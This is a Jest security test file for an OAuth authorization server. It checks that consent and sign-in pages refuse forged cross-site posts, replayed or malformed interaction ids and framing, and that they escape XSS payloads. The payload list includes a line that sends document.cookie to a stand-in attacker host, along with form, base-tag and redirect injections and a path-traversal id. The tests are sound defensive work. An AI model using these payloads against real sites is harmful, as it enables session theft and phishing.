import { randomBytes } from 'node:crypto';
import { hashPassword } from '../../apps/authz/src/users/local-users.service';
import { parseForms } from '../support/html-form';
import { pkcePair } from '../support/pkce';
import { inBatches, startAttackStack, type AttackStack } from './support/attack-stack';

const REDIRECT = 'https://app.example.com/cb';
/** The gateway trusts a loopback proxy here: this header stands for a client on another machine. */
const REMOTE = { 'X-Forwarded-For': '203.0.113.9' };

const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</title><script>alert(document.cookie)</script>',
  '</code></p><form action=https://evil.example><button>Approve</button></form>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">Official client</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<img src=x onerror="fetch(\'//evil.example?\'+document.cookie)">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--',
  ']]><script>alert(1)</script>',
  '${7*7}{{7*7}}<%= 7*7 %>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<details open ontoggle=alert(1)>',
  'Claude Desktop (official)<br>Verified by Anthropic',
  '"onfocus="alert(1)" autofocus="',
];

/** An HTML page is safe for a payload when the payload's markup never appears as markup. */
const renderedRaw = (html: string, payload: string) => /[<>"']/.test(payload) && html.includes(payload);

// Each file starts a whole stack, and some cases wait on worker processes: more than Jest's 5 s default.
jest.setTimeout(30_000);

/**
 * Consent forgery (cross-site posts, foreign and replayed interaction ids, the Origin/Referer rules) and XSS
 * payloads in everything the authorization pages render (client names, redirect hosts, scopes, state, user
 * names, error descriptions), through the gateway.
 */
describe('security: consent forgery and XSS on the authorization pages', () => {
  let stack: AttackStack;
  let clientId: string;

  beforeAll(async () => {
    stack = await startAttackStack({
      authz: {
        AUTHZ_RATE_LIMIT_MAX: '100000',
        AUTHZ_USERS: `alice:${await hashPassword('correct horse battery')}`,
        // Local users and auto-login side by side: a loopback browser is signed in, a remote one gets the form.
        AUTHZ_AUTO_LOGIN: 'true',
      },
      gateway: { GATEWAY_TRUSTED_PROXIES: 'loopback' },
    });
    clientId = await register('Honest client');
  }, 60_000);
  afterAll(() => stack?.stop());

  async function register(name: string, redirectUris = [REDIRECT]): Promise<string> {
    const response = await fetch(`${stack.baseUrl()}/register`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({
        client_name: name,
        redirect_uris: redirectUris,
        token_endpoint_auth_method: 'none',
      }),
    });
    if (response.status !== 201) throw new Error(`registration answered ${response.status}`);
    return ((await response.json()) as { client_id: string }).client_id;
  }

  function authorize(params: Record<string, string> = {}, headers: Record<string, string> = {}) {
    const url = new URL(`${stack.baseUrl()}/authorize`);
    url.search = new URLSearchParams({
      response_type: 'code',
      client_id: clientId,
      redirect_uri: REDIRECT,
      code_challenge: pkcePair().challenge,
      code_challenge_method: 'S256',
      state: 'st',
      resource: stack.mcpUrl(),
      ...params,
    }).toString();
    return fetch(url, { redirect: 'manual', headers });
  }

  /** A consent page signed in (loopback auto-login): its html and interaction id. */
  async function consentPage(params: Record<string, string> = {}) {
    const response = await authorize(params);
    const html = await response.text();
    const form = parseForms(html).find((candidate) => candidate.fields.interaction_id);
    return { response, html, interactionId: form?.fields.interaction_id ?? '' };
  }

  const decide = (body: Record<string, string> | string, headers: Record<string, string> = {}) =>
    fetch(`${stack.baseUrl()}/authorize/decision`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...headers },
      body: typeof body === 'string' ? body : new URLSearchParams(body),
      redirect: 'manual',
    });

  describe('consent forgery', () => {
    it.each([
      ['a cross-site post (Fetch Metadata)', { 'Sec-Fetch-Site': 'cross-site' }],
      ['cross-site even with this Origin', { 'Sec-Fetch-Site': 'cross-site', Origin: 'PLACEHOLDER' }],
      ['a foreign Origin without Fetch Metadata', { Origin: 'https://evil.example' }],
      [
        'a foreign Origin marked same-origin',
        { 'Sec-Fetch-Site': 'same-origin', Origin: 'https://evil.example' },
      ],
      ['the Origin of another port of this host', { Origin: 'http://localhost:1' }],
      ['a look-alike Origin', { Origin: 'http://localhost.evil.example' }],
    ])('refuses %s and leaves the interaction usable', async (_label, headers) => {
      const { interactionId } = await consentPage();
      const forged = Object.fromEntries(
        Object.entries(headers).map(([name, value]) => [
          name,
          value === 'PLACEHOLDER' ? stack.baseUrl() : value,
        ]),
      );
      const response = await decide({ interaction_id: interactionId, decision: 'approve' }, forged);
      expect(response.status).toBe(400);
      expect(response.headers.get('location')).toBeNull();
      // The refused post spent nothing: the user can still approve from the page.
      const genuine = await decide(
        { interaction_id: interactionId, decision: 'approve' },
        { Origin: stack.baseUrl() },
      );
      expect(genuine.status).toBe(303);
    });

    it.each([
      ['Origin: null and no Referer (a no-referrer page)', { Origin: 'null' }],
      ['no Origin and no Referer (privacy settings)', {}],
    ])('judges %s by the interaction id alone', async (_label, headers) => {
      const { interactionId } = await consentPage();
      const response = await decide({ interaction_id: interactionId, decision: 'approve' }, headers);
      expect(response.status).toBe(303);
      expect(new URL(response.headers.get('location')!).searchParams.get('code')).toEqual(expect.any(String));
      const forged = await decide(
        { interaction_id: randomBytes(32).toString('base64url'), decision: 'approve' },
        headers,
      );
      expect(forged.status).toBe(400);
    });

    it('refuses a replayed interaction id and issues no second code', async () => {
      const { interactionId } = await consentPage();
      expect((await decide({ interaction_id: interactionId, decision: 'approve' })).status).toBe(303);
      const replayed = await decide({ interaction_id: interactionId, decision: 'approve' });
      expect(replayed.status).toBe(400);
      expect(replayed.headers.get('location')).toBeNull();
      expect(await replayed.text()).toContain('invalid_request');
    });

    it('refuses an interaction nobody signed in to: a remote browser cannot approve for the user', async () => {
      const login = await authorize({}, REMOTE);
      const html = await login.text();
      expect(html).toContain('name="password"');
      const interactionId = parseForms(html).find((form) => form.fields.interaction_id)!.fields
        .interaction_id;
      const response = await decide({ interaction_id: interactionId, decision: 'approve' }, REMOTE);
      expect(response.status).toBe(400);
      expect(await response.text()).toContain('access_denied');
    });

    it.each([
      ['a forged id', { interaction_id: 'A'.repeat(43), decision: 'approve' }],
      ['an empty id', { interaction_id: '', decision: 'approve' }],
      ['a traversal id', { interaction_id: '../../internal/grants/x', decision: 'approve' }],
      ['a too long id', { interaction_id: 'A'.repeat(44), decision: 'approve' }],
      ['no id', { decision: 'approve' }],
      ['an unknown decision', { interaction_id: 'A'.repeat(43), decision: 'yes' }],
      ['a repeated id', 'interaction_id=AAAA&interaction_id=BBBB&decision=approve'],
    ])('refuses %s with an error page', async (_label, body) => {
      const response = await decide(body as Record<string, string>);
      expect(response.status).toBe(400);
      expect(response.headers.get('location')).toBeNull();
    });

    it('cannot be framed, and its form posts only to this server or the redirect origin', async () => {
      const { response } = await consentPage();
      expect(response.headers.get('x-frame-options')).toBe('DENY');
      const csp = response.headers.get('content-security-policy') ?? '';
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("default-src 'none'");
      expect(csp).toMatch(/form-action 'self' https:\/\/app\.example\.com(;|$)/);
    });

    it('refuses cross-site sign-in and sign-out posts (login CSRF)', async () => {
      for (const path of ['/login', '/logout']) {
        const response = await fetch(`${stack.baseUrl()}${path}`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/x-www-form-urlencoded', Origin: 'https://evil.example' },
          body: new URLSearchParams({ interaction_id: 'A'.repeat(43), username: 'alice', password: 'x' }),
          redirect: 'manual',
        });
        expect(response.status).toBe(400);
      }
    });
  });

  describe('XSS', () => {
    it(`escapes ${XSS_PAYLOADS.length} payloads in a registered client name on the consent page`, async () => {
      const outcomes = await inBatches(XSS_PAYLOADS, 6, async (payload) => {
        const id = await register(payload);
        const { response, html } = await consentPage({ client_id: id });
        return {
          payload,
          status: response.status,
          raw: renderedRaw(html, payload),
          shown: html.includes(
            payload
              .replace(/&/g, '&amp;')
              .replace(/</g, '&lt;')
              .replace(/>/g, '&gt;')
              .replace(/"/g, '&quot;')
              .replace(/'/g, '&#39;'),
          ),
          csp: response.headers.get('content-security-policy') ?? '',
        };
      });
      expect(outcomes.filter((outcome) => outcome.status !== 200 || outcome.raw || !outcome.shown)).toEqual(
        [],
      );
      // No script could run anyway: the pages allow none.
      expect(
        outcomes.every(
          (outcome) => outcome.csp.includes("default-src 'none'") && !outcome.csp.includes('script-src'),
        ),
      ).toBe(true);
    });

    it('never shows the self-asserted name as the heading of a registered client', async () => {
      const id = await register('Claude Desktop (official)');
      const { html } = await consentPage({ client_id: id });
      expect(html).toMatch(/<h1>An app at <strong class="redirect-host">app\.example\.com<\/strong>/);
      expect(html).toContain('Unverified app');
    });

    it('shows an internationalised redirect host in its punycode form (no homograph)', async () => {
      const id = await register('Homograph', ['https://\u0430pple.example/cb']);
      const { html } = await consentPage({ client_id: id, redirect_uri: 'https://\u0430pple.example/cb' });
      expect(html).toContain('xn--pple-43d.example');
      expect(html).not.toContain('\u0430pple.example');
    });

    it('escapes hostile scope values, or drops them', async () => {
      for (const payload of XSS_PAYLOADS.slice(0, 8)) {
        const { html } = await consentPage({ scope: `mcp:tools:read ${payload}` });
        expect(renderedRaw(html, payload)).toBe(false);
      }
    });

    it('returns a hostile state byte for byte in the redirect, never in a page', async () => {
      for (const state of XSS_PAYLOADS.slice(0, 8)) {
        const { html, interactionId } = await consentPage({ state });
        expect(renderedRaw(html, state)).toBe(false);
        const denied = await decide({ interaction_id: interactionId, decision: 'deny' });
        const location = denied.headers.get('location')!;
        expect(location).not.toMatch(/[<>"' ]/);
        expect(new URL(location).searchParams.get('state')).toBe(state);
      }
    });

    it('escapes hostile values echoed on error pages and the sign-in page', async () => {
      for (const payload of XSS_PAYLOADS.slice(0, 8)) {
        const unknownClient = await authorize({ client_id: payload });
        expect(unknownClient.status).toBe(400);
        expect(renderedRaw(await unknownClient.text(), payload)).toBe(false);
        const badRedirect = await authorize({ redirect_uri: `https://app.example.com/${payload}` });
        expect(renderedRaw(await badRedirect.text(), payload)).toBe(false);
        const badChallenge = await authorize({ code_challenge_method: payload });
        expect(renderedRaw(await badChallenge.text(), payload)).toBe(false);
      }
      const login = await authorize({}, REMOTE);
      const interactionId = parseForms(await login.text()).find((form) => form.fields.interaction_id)!.fields
        .interaction_id;
      for (const username of XSS_PAYLOADS.slice(0, 8)) {
        const failed = await fetch(`${stack.baseUrl()}/login`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...REMOTE },
          body: new URLSearchParams({ interaction_id: interactionId, username, password: 'wrong' }),
        });
        expect(failed.status).toBe(401);
        expect(renderedRaw(await failed.text(), username)).toBe(false);
      }
    });
  });
});
